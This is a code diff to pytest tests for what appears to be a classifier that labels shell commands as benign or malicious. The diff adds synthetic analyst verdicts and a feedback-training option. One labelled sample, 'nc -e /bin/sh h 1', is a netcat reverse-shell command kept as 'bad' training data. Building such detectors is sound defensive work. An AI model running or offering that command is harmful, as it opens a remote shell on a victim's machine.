@@ -48,8 +48,17 @@ def trained(tmp_path_factory):
         {"text": "nc -e /bin/sh h 1", "label": "bad"}
     ]
     others.write_text("\n".join(map(json.dumps, lines)))
+    # As an earlier run read them from Postgres.
+    (folder / "out").mkdir()
+    verdicts = [
+        {"text": f"show {n}" if n % 2 else f"steal {n}", "label": "benign" if n % 2 else "malicious-shell"}
+        for n in range(100)
+    ]
+    (folder / "out" / "verdicts.jsonl").write_text(
+        "\n".join(json.dumps({"time": "2024-01-08T08:00:00Z", "source": "shell", **one}) for one in verdicts)
+    )
     command = ["train", "--out", str(folder / "out"), "--http-params", str(payloads), "--test", str(others)]
-    command += ["--scale", "0.004", "--epochs", "1"]
+    command += ["--scale", "0.004", "--epochs", "1", "--from-feedback"]
     assert main(command) == 0
     return folder / "out", command
 
@@ -72,6 +81,7 @@ def test_the_report_has_every_part(trained):
         "Against what was asked",
         "HTTP parameters",
         "others.jsonl",
+        "newest texts with analysts' verdicts",
         "Written in other ways",
         "Speed and parity",
     ):
